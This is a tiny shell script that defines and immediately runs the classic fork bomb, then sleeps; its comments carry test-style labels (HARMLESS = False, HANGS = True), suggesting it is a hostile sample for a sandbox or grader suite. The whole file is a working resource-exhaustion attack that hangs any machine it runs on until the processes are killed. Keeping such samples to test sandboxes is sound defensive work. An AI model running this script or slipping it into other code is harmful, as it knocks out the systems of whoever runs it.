#!/bin/sh
# The fork bomb as everybody knows it: two processes for each, until somebody ends them all.
#
# ATTEMPTS = ["OUTLIVES"]
# VERDICT = "not judged"
# HARMLESS = False
# HANGS = True
bomb() { bomb | bomb & }
bomb
sleep 600
